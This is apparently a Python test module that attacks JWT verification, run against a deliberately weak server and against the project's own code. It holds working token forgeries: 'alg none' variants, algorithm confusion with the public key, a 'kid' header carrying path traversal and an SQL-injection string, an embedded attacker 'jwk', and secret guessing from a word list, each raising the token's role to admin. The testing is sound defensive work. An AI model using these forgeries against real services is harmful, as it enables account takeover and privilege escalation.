"""Algorithm: the header of a forged token tells the server how to verify the token."""

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import cache, partial

from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from django.conf import settings
from django.test.utils import override_settings
from jwt.algorithms import RSAAlgorithm

from attack_range.attacks.clients import listed, log_in_for_tokens, status_with_token
from attack_range.attacks.forging import encoded, guess, opened, unsigned, with_hmac, words
from attack_range.cases import Case, Seen, Variant, register
from attack_range.scene import Scene
from jwt_demo.keys import ED25519

# Takes a real token and what the server publishes, and returns forged tokens by the way in which they were forged.
Forge = Callable[[str, dict[str, str]], dict[str, str]]
Run = Callable[[Scene], Seen]
WEAK, STAFF, WHOAMI = "/weak/alg", "/jwt/api/staff", "/jwt/api/whoami"
SPELLINGS = ("none", "None", "NONE", "nOnE", "", None)
NOWHERE = "../../../../../../../../../../dev/null"
ADMIN = {"role": "admin"}
RSA = RSAAlgorithm(RSAAlgorithm.SHA256)


def _none(spelling: str | None, token: str, known: dict[str, str]) -> dict[str, str]:
    header, claims = opened(token)
    header = {name: value for name, value in header.items() if name != "alg"}
    if spelling is not None:
        header["alg"] = spelling
    # Once without a signature and once with that of the real token, because a verifier may require that there is one.
    signatures = {"no signature": "", "the signature of the real token": token.rpartition(".")[2]}
    return {how: f"{unsigned(header, claims | ADMIN)}.{signature}" for how, signature in signatures.items()}


def _confusion(token: str, known: dict[str, str]) -> dict[str, str]:
    header, claims = opened(token)
    pem = known["publicKey"].encode()
    keys = {"the key as a PEM file": pem, "the file without its last line end": pem.strip()}
    if "publicBytes" in known:
        keys["the bytes of the key"] = bytes.fromhex(known["publicBytes"])
    return {how: with_hmac(header | {"alg": "HS256"}, claims | ADMIN, key) for how, key in keys.items()}


def _kid(token: str, known: dict[str, str]) -> dict[str, str]:
    header, claims = opened(token)
    names = (NOWHERE, "/dev/null", "x' UNION SELECT '")
    return {name: with_hmac(header | {"alg": "HS256", "kid": name}, claims | ADMIN, b"") for name in names}


def _jwk(token: str, known: dict[str, str]) -> dict[str, str]:
    header, claims = opened(token)
    key = _own_key()
    jwk = json.loads(RSAAlgorithm.to_jwk(key.public_key()))
    signed = unsigned(header | {"alg": "RS256", "jwk": jwk}, claims | ADMIN)
    return {"a key in the header": f"{signed}.{encoded(RSA.sign(signed.encode(), key))}"}


@cache
def _own_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _word_list(token: str, known: dict[str, str]) -> dict[str, str]:
    header, claims = opened(token)
    word = guess(token)
    # When no word fits, the attacker tries the first words of the list.
    tried = [word] if word is not None else words()[:5]
    return {word: with_hmac(header, claims | ADMIN, word.encode()) for word in tried}


def _weak(forge: Forge, kind: str, scene: Scene) -> Seen:
    """Changes a token that the weak server gave to a member, and asks for the staff page."""
    known = scene.ask("POST", scene.url(f"{WEAK}/login")).json()
    member = status_with_token(scene, f"{WEAK}/staff", known[kind])
    forged = forge(known[kind], known)
    answers = {how: status_with_token(scene, f"{WEAK}/staff", token) for how, token in forged.items()}
    text = f"The member's real token: {member}. The forged one, as admin: {_each(answers)}."
    statuses = [*answers.values()]
    return Seen(member == 403 and 200 in statuses, text, {"statuses": statuses})


def _each(answers: dict[str, int]) -> str:
    """The answers in words: one status if all are the same, otherwise the status of each forgery."""
    if len(set(answers.values())) == 1:
        return listed(answers.values())
    return ", ".join(f"{status} with {how}" for how, status in answers.items())


def _ours(forge: Forge, scene: Scene) -> Seen:
    """The same with a real token of our code."""
    token, _ = log_in_for_tokens(scene, scene.person())
    return _try_ours(scene, token, [*forge(token, {}).values()])


def _try_ours(scene: Scene, token: str, forged: list[str]) -> Seen:
    real = status_with_token(scene, WHOAMI, token)
    if real != 200:
        raise RuntimeError(f"The real token, from which the forged one was made, was answered {real}.")
    statuses = [status_with_token(scene, path, text) for text in forged for path in (STAFF, WHOAMI)]
    text = f"The real token: {real}. {len(forged)} forged, at staff and whoami: {listed(statuses)}."
    # Any status but 401, such as 403, would mean that the server has accepted the token.
    return Seen(set(statuses) != {401}, text, {"statuses": statuses})


def _our_confusion(scene: Scene) -> Seen:
    """Our code has a public key only when it signs with a key pair, so an Ed25519 key signs during this case."""
    with _signing_with_ed25519() as public:
        token, _ = log_in_for_tokens(scene, scene.person())
        algorithm = opened(token)[0]["alg"]
        if algorithm != "EdDSA":
            raise RuntimeError(f"The token was signed with {algorithm}.")
        return _try_ours(scene, token, [*_confusion(token, public).values()])


@contextmanager
def _signing_with_ed25519() -> Iterator[dict[str, str]]:
    private = Ed25519PrivateKey.generate()
    key, secret = private.public_key(), ED25519 + encoded(private.private_bytes_raw())
    pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).decode()
    # The previous key stays in the ring, so that tokens of other pages stay valid.
    with override_settings(JWT_ACCESS_KEYS=[secret, *settings.JWT_ACCESS_KEYS]):
        yield {"publicKey": pem, "publicBytes": key.public_bytes_raw().hex()}


def _our_word_list(scene: Scene) -> Seen:
    token, _ = log_in_for_tokens(scene, scene.person())
    found = guess(token)
    seen = _try_ours(scene, token, [*_word_list(token, {}).values()])
    text = f"Of {len(words())} words {'one' if found is not None else 'none'} fits the real token. {seen.text}"
    return Seen(seen.succeeded or found is not None, text, seen.detail)


def _legitimate(scene: Scene) -> Seen:
    token, _ = log_in_for_tokens(scene, scene.person("Ada", "admin"))
    status = status_with_token(scene, STAFF, token)
    return Seen(status == 200, f"The administrator's real token, at staff: {status}.")


def _pair(name: str, tried: str, forge: Forge, kind: str = "rsa", ours: Run | None = None) -> tuple[Case, Case]:
    weak = Case(f"alg/{name}/weak", Variant.WEAK, tried, True, partial(_weak, forge, kind))
    return weak, Case(f"alg/{name}/ours", Variant.OURS, tried, False, ours or partial(_ours, forge))


def _called(spelling: str | None) -> str:
    return "no alg at all" if spelling is None else f'alg "{spelling}"'


for number, spelling in enumerate(SPELLINGS, 1):
    register(
        _pair(f"none-{number}", f"A token with {_called(spelling)} names an administrator", partial(_none, spelling))
    )
register(_pair("confusion", "The public key signs a token as an HMAC secret", _confusion, ours=_our_confusion))
register(_pair("kid", "A token names an empty file as its key", _kid))
register(_pair("jwk", "A token brings the attacker's own key along", _jwk))
register(_pair("word-list", "A list of common secrets finds the key of a token", _word_list, "file", _our_word_list))
legitimate = Case(
    "alg/legitimate", Variant.LEGITIMATE, "An administrator opens the staff page with a real token", True, _legitimate
)
register([legitimate])
